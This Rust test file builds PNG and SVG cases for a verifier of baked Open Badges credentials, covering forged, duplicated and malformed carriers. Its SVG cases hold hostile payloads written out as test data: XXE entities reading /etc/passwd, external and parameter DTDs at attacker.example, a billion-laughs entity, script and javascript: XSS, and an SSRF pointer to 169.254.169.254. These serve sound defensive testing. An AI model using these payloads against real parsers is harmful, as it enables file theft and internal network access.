//! Baked pictures.

#![expect(clippy::too_many_lines, reason = "a table of cases is as long as it is")]

use std::io::Write as _;

use flate2::{Compression, GzBuilder};
use verifier::Check::{Proof, Read};
use verifier::Code;

use super::super::badge::{badge, by_university};
use super::super::case::{Case, generated_case};
use super::super::honest::unsigned_transcript;
use super::super::token_cases::token_with;
use super::super::wrap::{Chunk, SVG_END, baked, element, itxt, itxt_with, png, svg, text};
use super::{file_case, forged, honest};

const KEYWORD: &str = "openbadgecredential";

/// An honest picture with these chunks behind its header.
fn with(chunks: &[Chunk]) -> Vec<u8> {
    png(8, &[128; 64], chunks)
}

fn transcript() -> String {
    by_university(&unsigned_transcript(&[by_university(&badge())])).to_string()
}

pub(super) fn pngs() -> Vec<Case> {
    let case = |id: &str, says: &str, bytes: Vec<u8>| file_case(id, says, "input.png", bytes);
    let (genuine, forgery) = (itxt(honest().as_bytes()), itxt(forged().as_bytes()));
    let token = token_with(&badge());
    let whole = with(std::slice::from_ref(&genuine));
    // Signature and header take 33 bytes: the length of the chunk with the credential follows.
    let length = |length: [u8; 4]| [&whole[..33], &length, &whole[37..]].concat();
    let several = |case: Case| case.refused(Read, Code::SeveralCredentials);
    let damaged = |case: Case| case.refused(Read, Code::CarrierMalformed);
    let not_read = |case: Case| case.refused(Read, Code::CarrierNotRead);
    let header_last = {
        let parts =
            [&whole[..8], &genuine.bytes(), &whole[8..33], &whole[33 + genuine.bytes().len()..]];
        parts.concat()
    };
    vec![
        case("H00-json", "A baked picture.", whole.clone()),
        case("H00-token", "A token in a picture.", with(&[itxt(token.as_bytes())])),
        case(
            "H00-transcript",
            "A transcript in a picture.",
            with(&[itxt_with("clrcredential", &[0; 4], transcript().as_bytes())]),
        ),
        case(
            "H00-other-text",
            "A picture with texts of other kinds.",
            with(&[
                text(b"tEXt", "Software", b"Tanu"),
                genuine.clone(),
                text(b"zTXt", "Comment", b"x"),
            ]),
        ),
        case(
            "H00-forged",
            "The credential in the picture was changed.",
            with(std::slice::from_ref(&forgery)),
        )
        .invalid(Proof, Code::Signature),
        several(case(
            "H01-genuine-first",
            "Two credentials, the genuine one first.",
            with(&[genuine.clone(), forgery.clone()]),
        )),
        several(case(
            "H01-forged-first",
            "Two credentials, the forged one first.",
            with(&[forgery, genuine.clone()]),
        )),
        several(case(
            "H01-twice",
            "The same credential twice.",
            with(&[genuine.clone(), genuine.clone()]),
        )),
        several(case(
            "H01-behind-the-end",
            "One credential behind the end of the picture.",
            [with(&[]), genuine.bytes()].concat(),
        )),
        several(case(
            "H01-two-behind-the-end",
            "A second credential behind the end of the picture.",
            [whole.clone(), genuine.bytes()].concat(),
        )),
        several(case(
            "H01-text-twin",
            "A second credential as tEXt.",
            with(&[genuine.clone(), text(b"tEXt", KEYWORD, honest().as_bytes())]),
        )),
        several(case(
            "H01-text-only",
            "The credential as tEXt.",
            with(&[text(b"tEXt", KEYWORD, honest().as_bytes())]),
        )),
        several(case(
            "H01-compressed-text",
            "The credential as zTXt.",
            with(&[text(b"zTXt", KEYWORD, honest().as_bytes())]),
        )),
        several(case(
            "H01-keyword-case",
            "The keyword in capitals.",
            with(&[
                genuine.clone(),
                itxt_with("OpenBadgeCredential", &[0; 4], honest().as_bytes()),
            ]),
        )),
        several(case(
            "H01-keyword-space",
            "The keyword with a space.",
            with(&[itxt_with(" openbadgecredential", &[0; 4], honest().as_bytes())]),
        )),
        several(case(
            "H01-badge-and-transcript",
            "A badge and a transcript.",
            with(&[genuine.clone(), itxt_with("clrcredential", &[0; 4], transcript().as_bytes())]),
        )),
        not_read(generated_case(
            "H02-bomb",
            "A compressed credential that inflates to 64 MB.",
            "png-bomb-64000000",
        )),
        not_read(case(
            "H02-compressed",
            "A credential that says that it is compressed.",
            with(&[itxt_with(KEYWORD, &[1, 0, 0, 0], honest().as_bytes())]),
        )),
        damaged(case(
            "H03-length-2-31",
            "A chunk of 2^31 - 1 bytes.",
            length([0x7f, 0xff, 0xff, 0xff]),
        )),
        damaged(case("H03-length-2-32", "A chunk of 2^32 - 1 bytes.", length([0xff; 4]))),
        damaged(case("H03-length-0", "The length of the credential's chunk is 0.", length([0; 4]))),
        damaged(case("H03-crc", "A wrong checksum.", {
            let mut bytes = whole.clone();
            let last = 33 + genuine.bytes().len() - 1;
            bytes[last] ^= 1;
            bytes
        })),
        damaged(case(
            "H03-truncated",
            "The end of the picture is missing.",
            whole[..whole.len() - 6].to_vec(),
        )),
        damaged(case("H03-signature-alone", "Nothing but the first bytes.", whole[..8].to_vec())),
        damaged(case("H03-order", "The credential stands before the header.", header_last)),
        damaged(case(
            "H03-two-headers",
            "Two headers.",
            with(&[Chunk::new(b"IHDR", [0; 13]), genuine.clone()]),
        )),
        damaged(case(
            "H03-unknown-critical",
            "A part that no program knows and none may pass over.",
            with(&[Chunk::new(b"ABCD", [1]), genuine.clone()]),
        )),
        damaged(case(
            "H05-html",
            "A picture that is a page too.",
            [&whole[..], b"<html><script>alert(1)</script></html>"].concat(),
        )),
        case(
            "H06-another-picture",
            "The picture shows something else: it is not verified, and a warning says so.",
            png(8, &[0; 64], std::slice::from_ref(&genuine)),
        ),
        damaged(case(
            "H07-not-utf8",
            "Text that is not UTF-8.",
            with(&[itxt(b"{\"a\":\"\xff\"}")]),
        )),
        damaged(case("H07-nul", "Text with a 0 in it.", with(&[itxt(b"{\"a\":\"\0\"}")]))),
        damaged(case(
            "H07-language",
            "A language in the chunk.",
            with(&[itxt_with(KEYWORD, b"\0\0kk\0\0", honest().as_bytes())]),
        )),
        generated_case(
            "H07-nine-megabytes",
            "A credential of nine million spaces.",
            "png-text-9000000",
        )
        .refused(Read, Code::Limit),
        not_read(case(
            "H08-open-badges-2",
            "A badge of Open Badges 2.",
            with(&[itxt_with(
                "openbadges",
                &[0; 4],
                b"{\"@context\":\"https://w3id.org/openbadges/v2\"}",
            )]),
        )),
        case(
            "H08-both-versions",
            "A badge of both versions.",
            with(&[itxt_with("openbadges", &[0; 4], b"{}"), genuine.clone()]),
        ),
        case(
            "H08-both-versions-after",
            "A forged credential under the keyword of Open Badges 2, behind the genuine one.",
            with(&[genuine.clone(), itxt_with("openbadges", &[0; 4], forged().as_bytes())]),
        ),
        case(
            "H08-both-versions-in-capitals",
            "The same under a keyword that some programs take for it, as tEXt.",
            with(&[text(b"tEXt", "OpenBadges", forged().as_bytes()), genuine]),
        ),
        case("H08-nothing", "A picture without a credential.", with(&[]))
            .refused(Read, Code::NoCredential),
    ]
}

pub(super) fn svgs() -> Vec<Case> {
    let case = |id: &str, says: &str, text: &str| {
        file_case(id, says, "input.svg", text.as_bytes().to_vec())
    };
    let bytes = |id: &str, says: &str, bytes: Vec<u8>| file_case(id, says, "input.svg", bytes);
    let (genuine, forgery) = (element(&honest()), element(&forged()));
    let token = token_with(&badge());
    let verify = format!("<openbadges:credential verify=\"{token}\"/>");
    let several = |case: Case| case.refused(Read, Code::SeveralCredentials);
    let damaged = |case: Case| case.refused(Read, Code::CarrierMalformed);
    let not_read = |case: Case| case.refused(Read, Code::CarrierNotRead);
    let whole = svg(&genuine);
    let doctype = |subset: &str| format!("<!DOCTYPE svg {subset}>{whole}");
    let wide = |order: fn(u16) -> [u8; 2]| -> Vec<u8> {
        let units = "\u{feff}".encode_utf16().chain(whole.encode_utf16());
        units.flat_map(order).collect()
    };
    let zipped = {
        let mut encoder = GzBuilder::new().write(Vec::new(), Compression::best());
        encoder.write_all(whole.as_bytes()).and_then(|()| encoder.finish()).unwrap_or_default()
    };
    vec![
        bytes("I00-json", "A baked picture.", baked(&honest())),
        case("I00-token", "A token in a picture.", &svg(&verify)),
        case(
            "I00-declared",
            "With a declaration.",
            &format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{whole}"),
        ),
        case(
            "I06-both-versions",
            "A badge of Open Badges 2 beside the credential.",
            &svg(&format!(
                "{genuine}<o:assertion xmlns:o=\"http://openbadges.org\" verify=\"{token}\"/>"
            )),
        ),
        case(
            "I00-prefix",
            "Another prefix for the same namespace.",
            &whole.replace("openbadges:", "ob:").replace("xmlns:openbadges", "xmlns:ob"),
        ),
        case(
            "I00-transcript",
            "A transcript in a picture.",
            &svg(&element(&transcript())).replace("/ob/v3p0\"", "/clr/v2p0\""),
        ),
        case(
            "I00-deeper",
            "The credential stands deeper in the picture.",
            &svg(&format!("<defs>{genuine}</defs>")),
        ),
        case("I00-forged", "The credential in the picture was changed.", &svg(&forgery))
            .invalid(Proof, Code::Signature),
        case(
            "I01-script",
            "Scripts in the picture are never run, nor is the picture shown.",
            &svg(&format!(
                "<script>alert(1)</script><g onload=\"alert(1)\"/><foreignObject/><set to=\"javascript:alert(1)\"/>{genuine}"
            )),
        ),
        damaged(case(
            "I02-entity",
            "An entity of a file.",
            &doctype("[<!ENTITY x SYSTEM \"file:///etc/passwd\">]")
                .replace("<circle", "<text>&x;</text><circle"),
        )),
        damaged(case(
            "I02-external",
            "An external document type.",
            &doctype("SYSTEM \"https://attacker.example/x.dtd\""),
        )),
        damaged(case(
            "I02-parameter",
            "A parameter entity.",
            &doctype("[<!ENTITY % x SYSTEM \"https://attacker.example/x\"> %x;]"),
        )),
        damaged(case(
            "I02-laughs",
            "Entities that grow.",
            &doctype("[<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]"),
        )),
        damaged(case(
            "I02-undefined",
            "An entity that nobody defines.",
            &svg(&format!("<text>&x;</text>{genuine}")),
        )),
        case(
            "I04-use",
            "Copies of copies in the picture, which is never drawn.",
            &svg(&format!(
                "<g id=\"a\"><use href=\"#b\"/><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>{genuine}"
            )),
        ),
        case(
            "I05-references",
            "References to other hosts, which are never asked.",
            &svg(&format!(
                "<image href=\"http://169.254.169.254/\"/><style>@import 'file:///etc/passwd';</style>{genuine}"
            )),
        ),
        several(case("I06-two", "Two credentials.", &svg(&format!("{genuine}{forgery}")))),
        several(case(
            "I06-two-forged-first",
            "Two credentials, the forged one first.",
            &svg(&format!("{forgery}{genuine}")),
        )),
        several(case(
            "I06-two-one-in-defs",
            "One of two in the definitions.",
            &svg(&format!("{genuine}<defs>{forgery}</defs>")),
        )),
        several(case(
            "I06-other-prefix",
            "One of two under another prefix.",
            &svg(&format!(
                "{genuine}<x:credential xmlns:x=\"https://purl.imsglobal.org/ob/v3p0\">{{}}</x:credential>"
            )),
        )),
        several(case(
            "I06-other-namespace",
            "One of two under another namespace with the usual prefix.",
            &svg(&format!("{genuine}<g xmlns:openbadges=\"urn:x\">{forgery}</g>")),
        )),
        several(case(
            "I06-only-other-namespace",
            "The only one under another namespace.",
            &whole.replace("https://purl.imsglobal.org/ob/v3p0", "https://attacker.example/ob"),
        )),
        several(case(
            "I06-comment",
            "A second one in a comment.",
            &svg(&format!("{genuine}<!-- {} -->", verify)),
        )),
        several(case(
            "I06-text",
            "A second one as text.",
            &svg(&format!("{genuine}<text><![CDATA[{verify}]]></text>")),
        )),
        several(case(
            "I06-attribute-and-body",
            "A token and a text in one element.",
            &svg(&genuine
                .replace("credential>", &format!("credential verify=\"{token}\">"))
                .replace(
                    &format!("/openbadges:credential verify=\"{token}\""),
                    "/openbadges:credential",
                )),
        )),
        several(case(
            "I06-attribute-case",
            "The token in an attribute of another name.",
            &svg(&verify.replace("verify=", "Verify=")),
        )),
        several(case(
            "I06-two-attributes",
            "Two tokens.",
            &svg(&verify.replace("verify=", "openbadges:verify=\"x\" verify=")),
        )),
        several(case(
            "I06-inner-element",
            "An element inside the credential.",
            &svg(&genuine.replace("<![CDATA[", "<g/><![CDATA[")),
        )),
        not_read(bytes("I08-utf-16-le", "UTF-16.", wide(u16::to_le_bytes))),
        not_read(bytes("I08-utf-16-be", "UTF-16, the other way round.", wide(u16::to_be_bytes))),
        not_read(case(
            "I08-utf-7",
            "Bytes that claim to be UTF-7.",
            &format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{whole}"),
        )),
        not_read(bytes("I08-svgz", "A picture that was compressed.", zipped)),
        damaged(bytes(
            "I08-latin-1",
            "Bytes that are not UTF-8.",
            [whole.as_bytes(), b"<!-- \xe9 -->"].concat(),
        )),
        damaged(case(
            "I10-truncated",
            "The end of the picture is missing.",
            whole.trim_end_matches(SVG_END),
        )),
        not_read(case(
            "I10-open-badges-2",
            "A badge of Open Badges 2.",
            &svg("<openbadges:assertion xmlns:openbadges=\"http://openbadges.org\" verify=\"x\"/>"),
        )),
        case("I10-nothing", "A picture without a credential.", &svg(""))
            .refused(Read, Code::NoCredential),
        case("I10-empty", "An empty credential.", &svg("<openbadges:credential/>"))
            .refused(Read, Code::NoCredential),
        case(
            "I10-page",
            "A page of the web.",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>",
        )
        .refused(Read, Code::NoCredential),
    ]
}
